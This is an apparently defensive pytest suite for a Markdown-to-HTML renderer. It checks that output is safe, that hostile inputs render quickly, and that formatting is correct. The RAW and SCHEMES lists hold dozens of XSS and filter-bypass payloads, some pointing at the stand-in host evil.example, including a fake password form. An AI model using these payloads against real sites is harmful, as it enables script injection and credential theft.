"""Markdown becomes safe HTML in the shapes that pages expect."""

import re
import threading
import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from tests.core.stopping import everywhere
from trainer.core import markup
from trainer.core.course import Heading, Html
from trainer.core.markup import Rendered, plain, render, render_inline
from trainer.core.markup.cleaning import ATTRIBUTES, CLASSES, ROLES, TAGS
from trainer.core.markup.paragraph import plain_paragraph


def resolve(role: str, target: str) -> str | None:
    """Everything exists but what is called `missing`."""
    return None if "missing" in target else f"/{role}/{target.lstrip('/')}"


def shown(text: str, **how: object) -> Rendered:
    return render(text, resolve=resolve, **how)


def html(text: str, **how: object) -> str:
    return shown(text, **how).html


def faults(text: str) -> list[tuple[int, str]]:
    return [(fault.line, fault.message.text) for fault in shown(text).faults]


def bare(text: str) -> str:
    """HTML without the white space between elements."""
    return re.sub(r">\s+<", "><", html(text)).strip()


# -- safety: what comes out is judged as a browser would read it ------------------------------------


class Judge(HTMLParser):
    """Fails on anything that the written list does not name, and on elements left open."""

    def __init__(self, found: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.ids: list[str] = []
        self.feed(found)
        self.close()
        assert not self.open, self.open
        assert len(self.ids) == len(set(self.ids)), self.ids

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, given_value in attrs:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            value = given_value or ""
            if name == "class":
                assert set(value.split()) <= CLASSES, value
            elif name == "role":
                assert value in ROLES, value
            elif name == "id":
                assert re.fullmatch(r"\S+", value), value
                self.ids.append(value)
            elif name == "href":
                assert re.match(r"(?:https?://|mailto:|/link/|#)", value), value
            elif name == "src":
                assert value.startswith("/image/"), value
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


RAW = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=//evil.example/x.swf>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<form action="//evil.example"><input name=password><button>Sign in</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=# onclick=alert(1)>x</a>
<b style="position:fixed;inset:0">x</b>
<style>body{display:none}</style>
<!-- --><script>alert(1)</script><!-- -->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<!DOCTYPE html><!ENTITY x "y">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>
<select><template><img src=x onerror=alert(1)></template></select>
</p></div></main><h1>Signed out</h1>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=`x`onerror=alert(1)>
<a\tb='c'onmouseover=alert(1)>x
<ｓcript>alert(1)</ｓcript>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\\<script>alert(1)\\</script>
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
**<img src=x onerror=alert(1)>**
[<img src=x onerror=alert(1)>](a.md)
![<img src=x onerror=alert(1)>](a.png)
![x](a.png "\\"><img src=x onerror=alert(1)>")
![x](a.png "x' onerror='alert(1)")
[x](a.md "\\" onclick=\\"alert(1)")
[x](a.md"onclick="alert(1))
![x](x"onerror="alert(1))
<https://e.example/"onclick="alert(1)>
<x@y.z"onclick="alert(1)>
{: onclick=alert(1) }
x {: style=position:fixed onclick=alert(1)}
[x](a.md){: onclick=alert(1) style=color:red target=_blank }
[x](a.md){#y onclick="alert(1)" .btn .btn-danger}
*x*{: id=main name=attributes .skip }
![x](a.png){: onerror=alert(1) srcset=//evil.example }
## x {#a onclick=alert(1)}
## x {: onmouseover=alert(1) }
## x {#a"onclick="alert(1)}
x\x02amp\x03lt;script\x02amp\x03gt;
\x02wzxhzdk:0\x03
\x02klzzwxh:0000\x03
\x1a0\x1a
\x190\x19
///Footnotes Go Here///
[TOC]
[^1]: <img src=x onerror=alert(1)>
[^"><img src=x onerror=alert(1)>]: x
*[x]: "><img src=x onerror=alert(1)>
*["><img src=x>]: x
\u202ejavascript:alert(1)\u202c"""

SCHEMES = """\
javascript:alert(1)
JaVaScRiPt:alert(1)
JAVASCRIPT:alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
&#0000106avascript:alert(1)
&amp;#106;avascript:alert(1)
&amp;amp;#106;avascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
java&#x0A;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#1;javascript:alert(1)
\x01javascript:alert(1)
java\x00script:alert(1)
&#x200b;javascript:alert(1)
&nbsp;javascript:alert(1)
\ufeffjavascript:alert(1)
\xa0javascript:alert(1)
java\xadscript:alert(1)
javascript://e.example/%0aalert(1)
vbscript:msgbox(1)
VBScript:x
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD4=
data:image/svg+xml,<svg/onload=alert(1)>
DATA:,x
file:///etc/passwd
ftp://e.example/
blob:https://e.example/1
about:blank
view-source:x
ws://e.example
intent://x
tel:112
x-javascript:alert(1)
feed:javascript:alert(1)
jar:x
livescript:alert(1)
mhtml:x
filesystem:x
//evil.example/x
///evil.example/x
\\\\evil.example\\x
/\\evil.example
\\/evil.example
&sol;&sol;evil.example
&#47;/evil.example
 //evil.example
\t//evil.example
https:evil.example
javascript\\:alert(1)
javascript%3Aalert(1)
j\\avascript:alert(1)
#" onclick="alert(1)
?x=javascript:alert(1)"""

PLACES = {
    "prose": "{}",
    "after text": "text\n{}\ntext",
    "bold": "**a {} b**",
    "list": "- {}\n  - {}",
    "quote": "> {}",
    "heading": "## {}",
    "setext heading": "{}\n---",
    "table": "| {} | b |\n|---|--:|\n| {} | d |",
    "box title": '!!! note "{}"\n    text',
    "box kind": "!!! {}\n    text",
    "box": '!!! warning "T"\n    {}',
    "figure": '![{}](a.png "{}")\n\n!!! description "{}"\n    {}',
    "link title": '[x](a.md "{}")',
    "note": "a[^1]\n\n[^1]: {}",
    "note's name": "a[^{}]\n\n[^{}]: x",
    "meaning": "{}\n:   {}",
    "abbreviation": "HTML\n\n*[HTML]: {}",
    "fence header": "``` {}\ncode\n```",
    "fence": "```\n{}\n```",
    "attributes": "text\n{{: {} }}",
    "heading attributes": "## T {{#{}}}",
    "code": "`{}`",
}
LINKS = {
    "link": "[x]({})",
    "angled link": "[x](<{}>)",
    "image": "![x]({})",
    "angled image": "![x](<{}>)",
    "reference": "[x][r]\n\n[r]: {}",
    "angled reference": "[x][r]\n\n[r]: <{}>",
    "image reference": "![x][r]\n\n[r]: {}",
    "autolink": "<{}>",
    "link in heading": "## [x]({})",
    "link in a note": "a[^1]\n\n[^1]: [x]({})",
    "link in a box's title": '!!! note "[x]({})"\n    text',
    "image in a link": "[![x]({})]({})",
    "link in a table": "| [x]({}) |\n|---|\n| ![x]({}) |",
}


@pytest.mark.parametrize("payload", RAW.split("\n"))
def test_raw_html_and_smuggled_attributes_never_reach_a_page(payload: str) -> None:
    """Rule 63."""
    for place in PLACES.values():
        text = place.replace("{{", "\0").replace("}}", "\1").replace("{}", payload)
        text = text.replace("\0", "{").replace("\1", "}")
        Judge(shown(text).html)
        Judge(render_inline(text, resolve=resolve).html)


@pytest.mark.parametrize("target", SCHEMES.split("\n"))
def test_only_harmless_addresses_are_written_whatever_their_disguise(target: str) -> None:
    for place in LINKS.values():
        text = place.replace("{}", target)
        Judge(shown(text).html)
        Judge(render_inline(text, resolve=resolve).html)


@pytest.mark.parametrize("target", SCHEMES.split("\n")[:14])
def test_a_dangerous_address_is_a_fault_with_its_line_and_the_words_stay(target: str) -> None:
    found = shown(f"one\n\n[read this]({target})")
    assert "<a" not in found.html
    assert "read this" in found.html
    assert [fault.line for fault in found.faults] == [3]


def test_raw_html_is_shown_as_the_author_wrote_it() -> None:
    assert (
        html("a <b onclick=x>b</b> <!-- c -->") == "<p>a &lt;b onclick=x&gt;b&lt;/b&gt; &lt;!-- c --&gt;</p>"
    )


def test_an_ampersand_written_as_entity_is_decoded_once() -> None:
    assert plain(Html(html("&eacute; &amp;eacute; &copy;"))) == "é &eacute; ©"
    assert plain(Html(html("`&amp; <b>`"))) == "&amp; <b>"


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(
        alphabet=st.sampled_from("ab \n\t#*_-+>|:.`~![](){}^\"'<&;=/\\1)\x02\x19\x1aé٣\u202e"), max_size=120
    )
)
def test_any_marks_in_any_order_render_to_safe_html(text: str) -> None:
    Judge(shown(text).html)
    Judge(render_inline(text, resolve=resolve).html)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_any_text_renders_to_safe_html(text: str) -> None:
    Judge(shown(text).html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*PLACES.values(), *LINKS.values(), "", "    x", "  - y"]), max_size=6))
def test_any_mixture_of_blocks_renders_to_safe_html(parts: list[str]) -> None:
    Judge(shown("\n".join(parts)).html)


PLAIN = st.text(
    alphabet=st.sampled_from(
        "ab é Ǆ 日 ا ं \u0301 1.):;,'’\"«»\u00a0\u2003\u2028\ufeff\u200f–-#=+!?/%$@~^(\n\n*_&|"
    ),
    max_size=30,
)


@settings(max_examples=250, deadline=None)
@given(
    PLAIN
    | st.text(max_size=30)
    | st.lists(st.sampled_from(["a", "1984.", "b c", "2) d", ": e", "  "])).map("\n".join)
)
def test_a_plain_paragraph_is_what_the_whole_engine_makes_of_it(text: str) -> None:
    if plain_paragraph(text) is not None:
        assert shown(text) == markup._in_full(text, resolve, None, "", inline=False)


def test_most_sentences_need_no_engine() -> None:
    assert all(map(plain_paragraph, ["The minister's reply: 3 of 4 (75 %).", "Où ? À l’ambassade.", "a\nb"]))
    assert not any(
        map(plain_paragraph, ["a *b*", "1. a", "R&D", "a\n- b", "a\n---", "Term\n: meaning", "a  \nb"])
    )


# -- time ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[^1]" * 4096 + "\n\n[^1]: x",
        "[^1]" * 4096,
        "![a" * 4096,
        "[" * 4096,
        "[" * 20_000,
        "![a](" * 4000,
        "[a][b" * 4000,
        "*a " * 6000,
        "**a *b " * 3000,
        "`" * 16_000,
        "``a" * 6000,
        "<" * 16_000,
        "> " * 8000 + "a",
        "1. " * 8000 + "a",
        "- " * 8000 + "a",
        "a\n: b\n" * 2000,
        "# a\n" * 2000,
        "[^1]: d\n\n[^1]\n\n" * 1000,
        "".join(f"{'  ' * depth}- a\n" for depth in range(300)),
        "!!! note\n" * 3000,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_text_takes_less_than_two_seconds(text: str) -> None:
    started = time.process_time()
    Judge(shown(text).html)
    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    "text", ["> " * 21 + "a", "- " * 21 + "a", "".join(f"{'  ' * n}- a\n" for n in range(30))]
)
def test_nesting_deeper_than_twenty_is_a_fault(text: str) -> None:
    found = shown(text)
    assert [fault.message.values.get("limit") for fault in found.faults] == [20]


def test_nesting_of_ten_is_fine() -> None:
    found = shown("".join(f"{'  ' * depth}- a\n" for depth in range(10)))
    assert not found.faults
    assert found.html.count("<ul>") == 10


def test_threads_render_side_by_side_without_mixing() -> None:
    answers: dict[int, str] = {}

    def work(number: int) -> None:
        for _ in range(20):
            answers[number] = html(f"## T{number}\n\nx[^1]\n\n[^1]: {number}")

    threads = [threading.Thread(target=work, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(f'id="t{number}"' in answer and f"{number} <a" in answer for number, answer in answers.items())
    assert len(answers) == 4


NESTED = """\
- a

    1. b[^x]

        > *c*

!!! note "Note"
    | d | e |
    |---|---|
    | f | g |

[^x]: h
"""


def test_a_rendering_that_is_stopped_anywhere_leaves_nothing_to_the_next() -> None:
    whole = html(NESTED)

    def next_one() -> None:
        assert html(NESTED) == whole

    assert everywhere(lambda: html(NESTED), next_one, step=29) > 30


# -- what people write -------------------------------------------------------------------------------


def test_a_list_may_follow_its_sentence_without_a_blank_line() -> None:
    assert bare("Three things:\n- a\n- b") == "<p>Three things:</p><ul><li>a</li><li>b</li></ul>"


def test_numbers_with_a_bracket_make_a_list() -> None:
    assert bare("1) a\n2) b") == "<ol><li>a</li><li>b</li></ol>"


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_two_three_or_four_spaces_nest_a_list(indent: int) -> None:
    assert bare(f"- a\n{' ' * indent}- b\n- c") == "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"


def test_a_list_goes_on_after_a_second_paragraph() -> None:
    assert bare("1. a\n\n   more\n2. b").count("<li>") == 2


def test_a_list_starts_with_its_first_number() -> None:
    assert 'start="3"' in html("3. c\n4. d")


def test_a_year_at_the_start_of_a_line_is_no_list() -> None:
    assert "<ol" not in html("It was adopted in\n2015. It is not binding.")


def test_a_number_sign_without_a_space_is_no_heading() -> None:
    assert bare("#1 risk") == "<p>#1 risk</p>"


def test_a_list_of_another_kind_is_another_list() -> None:
    assert bare("- a\n1. b") == "<ul><li>a</li></ul><ol><li>b</li></ol>"


def test_a_line_at_the_margin_ends_a_box() -> None:
    assert bare('!!! note "T"\n    in\nout').endswith("<p>in</p></aside><p>out</p>")


def test_a_paragraph_after_a_list_is_no_item() -> None:
    assert bare("- a\n\nafter").endswith("</ul><p>after</p>")


def test_nothing_in_a_fence_is_touched() -> None:
    code = "text\n- a\n1) b\n<!-- c -->\n[^1] [x](javascript:1)\n    deep\n\n  # d"
    found = shown(f"```python title=x\n{code}\n```")
    assert plain(found.html) == " ".join(code.split())
    assert f"{code.replace('<', '&lt;').replace('>', '&gt;')}\n</code>" in found.html
    assert not found.faults
    assert not found.references


@pytest.mark.parametrize(
    "text",
    [
        "- a\n\n  ```\n  x\n    y\n  ```\n- b",
        "1. a\n    ~~~~\n    x\n      y\n    ~~~~\n2. b",
        "- ```\n  x\n    y\n  ```\n- b",
    ],
)
def test_fences_work_inside_lists(text: str) -> None:
    found = bare(text)
    assert "<code>x\n  y\n</code>" in found
    assert found.count("<li>") == 2


def test_fences_work_inside_quotes_and_boxes() -> None:
    assert "<blockquote><pre" in bare("> ```\n> x\n> ```")
    assert "<code>x\n</code>" in bare('!!! note "T"\n    ```\n    x\n    ```')


def test_a_fence_without_an_end_is_a_fault_with_its_line() -> None:
    assert faults("a\n\n```\ncode") == [(3, "This code block has no end.")]


def test_code_reads_from_left_to_right_and_scrolls_by_keyboard() -> None:
    assert '<pre dir="ltr" tabindex="0"><code>x\n</code></pre>' in html("```\nx\n```")
    assert '<pre dir="ltr" tabindex="0">' in html("    x")


def test_definitions_may_follow_each_other_without_blank_lines() -> None:
    found = bare("A\n: one\nB\n:   two\n\nC; D\n:   three\n\n    more")
    assert found.count("<dt>") == 3
    assert found.count("<dd>") == 3
    assert "<p>more</p></dd>" in found


def test_parameters_in_braces_stay_text() -> None:
    assert plain(Html(html("*{AV}*{EF} is {cost}"))) == "{AV}{EF} is {cost}"
    assert plain(Html(html("## What is {cost}?"))) == "What is {cost}?"


# -- headings ----------------------------------------------------------------------------------------


def test_headings_of_any_script_get_readable_anchors() -> None:
    found = shown("## Привет, мир\n\n## مرحبا\n\n## 你好\n\n## नमस्ते\n\n## 你好")
    assert [heading.id for heading in found.headings] == ["привет-мир", "مرحبا", "你好", "नमस्ते", "你好-2"]
    assert 'id="привет-мир"' in found.html


def test_an_explicit_id_is_kept() -> None:
    assert shown("## The *law* & you {#law}").headings == (Heading("law", "The law & you", 2),)


def test_an_explicit_id_twice_is_a_fault() -> None:
    assert faults("## A {#x}\n\n## B {#x}") == [(3, "The id “{id}” is used twice.")]


def test_a_translation_takes_the_anchors_of_its_original_by_place() -> None:
    found = shown("## Un\n\n## Deux {#zwei}\n\n## Trois", heading_ids=["one", "two"])
    assert [heading.id for heading in found.headings] == ["one", "zwei", "trois"]


def test_a_page_keeps_its_one_first_level_heading_to_itself() -> None:
    assert [heading.level for heading in shown("# A\n\n## B").headings] == [2, 3]
    assert [heading.level for heading in shown("## A\n\n### B").headings] == [2, 3]


def test_a_heading_s_title_has_no_marks_of_notes() -> None:
    assert shown("## A[^1] `b`\n\n[^1]: x").headings[0].title == "A b"


# -- links and pictures --------------------------------------------------------------------------------


def test_references_come_with_their_lines() -> None:
    found = shown("[a](a.md)\n\ntext\n![i](i.svg)\n\n[a again](a.md) [r]\n\n[r]: https://e.example/x")
    assert [(r.role, r.target, r.line) for r in found.references] == [
        ("link", "a.md", 1),
        ("image", "i.svg", 4),
        ("link", "a.md", 6),
        ("link", "https://e.example/x", 8),
    ]


def test_a_link_that_leads_nowhere_goes_and_its_text_stays() -> None:
    assert html("[the *text*](missing.md)") == "<p>the <em>text</em></p>"


def test_links_to_other_sites_give_nothing_away() -> None:
    assert html("[x](https://e.example/?a=1&copy=2)") == (
        '<p><a href="https://e.example/?a=1&amp;copy=2" rel="noopener noreferrer">x</a></p>'
    )
    assert "rel=" not in html("[x](a.md)")


def test_an_address_in_angle_brackets_is_a_link() -> None:
    assert 'href="mailto:a@b.example"' in html("<a@b.example>")
    assert 'href="https://e.example"' in html("<https://e.example>")


@pytest.mark.parametrize("target", ["https://e.example/p.gif", "http://e.example/p.gif", "//e.example/p.gif"])
def test_a_picture_from_another_server_is_a_fault(target: str) -> None:
    found = shown(f"![pixel]({target})")
    assert "<img" not in found.html
    assert len(found.faults) == 1


def test_a_picture_alone_is_a_figure_with_its_title_as_caption() -> None:
    assert bare('![A map](media/map.svg "The & map")') == (
        '<figure aria-labelledby="figure"><img src="/image/media/map.svg" alt="A map" loading="lazy" '
        'decoding="async"><figcaption id="figure">The &amp; map</figcaption></figure>'
    )


def test_a_caption_keeps_its_no_break_spaces() -> None:
    caption = "La carte\u202f; le chemin\u00a0: deux étapes"
    assert f">{caption}</figcaption>".replace("\u00a0", "&nbsp;") in bare(f'![Carte](m.svg "{caption}")')


def test_a_picture_in_a_sentence_stays_there() -> None:
    assert "<figure" not in html("see ![A map](map.svg)")


def test_a_description_straight_after_a_figure_opens_below_it() -> None:
    found = bare('![A map](m.svg "The map")\n\n!!! description\n    North is up.')
    assert '<details class="description" data-for="figure"><summary>The map</summary>' in found
    assert "<p>North is up.</p></details>" in found
    named = bare('![A map](m.svg)\n\n!!! description "In words"\n    North is up.')
    assert "<summary>In words</summary>" in named


def test_a_description_elsewhere_is_a_fault() -> None:
    assert faults("text\n\n!!! description\n    x") == [
        (3, "A description stands straight after its picture.")
    ]


def test_a_picture_without_words_is_a_fault_but_decoration_is_not() -> None:
    assert len(shown("a ![](m.svg)").faults) == 1
    decorative = shown("a ![ ](m.svg)")
    assert not decorative.faults
    assert 'alt=""' in decorative.html


# -- boxes, tables, notes --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "classes"),
    [
        ("note", "note"),
        ("tip", "note tip"),
        ("warning", "note warn"),
        ("case", "note case"),
        ("practice", "note practice"),
    ],
)
def test_a_box_is_an_aside_with_its_title_first(kind: str, classes: str) -> None:
    assert bare(f'!!! {kind} "A *title*"\n    Text.') == (
        f'<aside class="{classes}" aria-labelledby="note">'
        '<p id="note">A <em>title</em></p><p>Text.</p></aside>'
    )


def test_an_unknown_box_is_a_fault_that_names_the_known_ones() -> None:
    found = shown('text\n\n!!! danger "x"\n    y').faults
    assert [(fault.line, fault.message.values) for fault in found] == [(3, {"kind": "danger"})]
    assert "note, tip, warning, case, practice" in str(found[0].correction)


def test_a_box_without_a_title_is_a_fault_and_gets_no_english_word() -> None:
    assert faults("!!! note\n    نص") == [(1, "The box has no title.")]
    assert "Note" not in html("!!! note\n    نص")


def test_a_table_scrolls_in_a_region_named_by_its_heading() -> None:
    found = bare("## Costs\n\n|a|b|\n|:-|-:|\n|1|2|\n\n|c|\n|-|\n|3|")
    assert '<div class="table" role="region" aria-label="Costs" tabindex="0"><table>' in found
    assert 'aria-label="Costs (2)"' in found
    assert '<th scope="col">a</th><th class="n" scope="col">b</th>' in found
    assert "style" not in found
    assert 'aria-label="a, b"' in bare("|a|b|\n|-|-|\n|1|2|")


def test_notes_are_numbered_in_the_order_of_the_text_and_lead_back() -> None:
    found = bare("a[^second] b[^first] c[^second]\n\n[^first]: F\n[^second]: S")
    assert '<sup><a href="#fn1" id="r1" role="doc-noteref">1</a></sup>' in found
    assert '<section class="footnotes" role="doc-endnotes"><ol><li id="fn1"><p>S <a href="#r1"' in found
    assert found.count('role="doc-backlink"') == 3


def test_notes_of_several_texts_on_a_page_are_kept_apart() -> None:
    found = html("## T\n\na[^1]\n\n[^1]: x", id_prefix="q1-")
    assert re.findall(r' id="([^"]*)"', found) == ["q1-t", "q1-r1", "q1-fn1"]
    assert re.findall(r' href="([^"]*)"', found) == ["#q1-fn1", "#q1-r1"]


def test_a_note_that_is_missing_or_unused_is_a_fault() -> None:
    assert faults("a\n\nb[^x]") == [(3, "There is no note [^{mark}].")]
    assert faults("a\n\n[^x]: b") == [(3, "The note [^{name}] is never used.")]


def test_abbreviations_are_explained() -> None:
    assert '<abbr title="Computer &lt;b&gt; team">CSIRT</abbr>' in html(
        "The CSIRT\n\n*[CSIRT]: Computer <b> team"
    )


def test_an_attribute_list_keeps_ids_and_listed_classes_only() -> None:
    """Rule 63."""
    assert html("text\n{: #x .small .button style=color:red }") == '<p id="x" class="small">text</p>'


# -- the small doors ---------------------------------------------------------------------------------------


def test_an_inline_text_has_no_paragraph_around_it() -> None:
    assert render_inline("a *b*", resolve=resolve).html == "a <em>b</em>"
    assert render_inline("a\n\nb", resolve=resolve).html.count("<p>") == 2


@pytest.mark.parametrize(
    "text", ["1984. A year", "1) one", "# of attempts", "- none", "> 5", "+ 3", "!!! really", "* x"]
)
def test_an_option_that_looks_like_a_block_is_text(text: str) -> None:
    assert plain(render_inline(text, resolve=resolve).html) == text


def test_slots_keep_their_place_and_one_set_of_notes() -> None:
    text = f"a[^1]\n\n{markup.slot(7)}\n\nb[^2]\n{markup.slot(8)}\n[^1]: x\n[^2]: y"
    found = markup.pieces(shown(text).html)
    assert [piece for piece in found if isinstance(piece, int)] == [7, 8]
    for piece in found:
        if not isinstance(piece, int):
            Judge(piece)
    assert str(found[-1]).startswith("<section")


def test_plain_text_has_no_tags_and_one_space_between_blocks() -> None:
    assert plain(Html("<p>a <em>b</em>c</p>\n<ul><li>d &lt;</li><li>e</li></ul>")) == "a bc d < e"


def test_words_are_counted_in_every_script() -> None:
    assert shown("Don't *stop* at 3.").words == 4
    assert shown("网络外交").words == 4


def test_addresses_are_quoted() -> None:
    assert (
        markup.page_url("c", "сети/a b", quiz=False, anchor="é")
        == "/learning/c/%D1%81%D0%B5%D1%82%D0%B8/a%20b#%C3%A9"
    )
    assert markup.page_url("c", "exam", quiz=True) == "/quiz/c/exam"
    assert markup.medium_url("ab12", "map 1?.svg") == "/media/ab12/map%201%3F.svg"
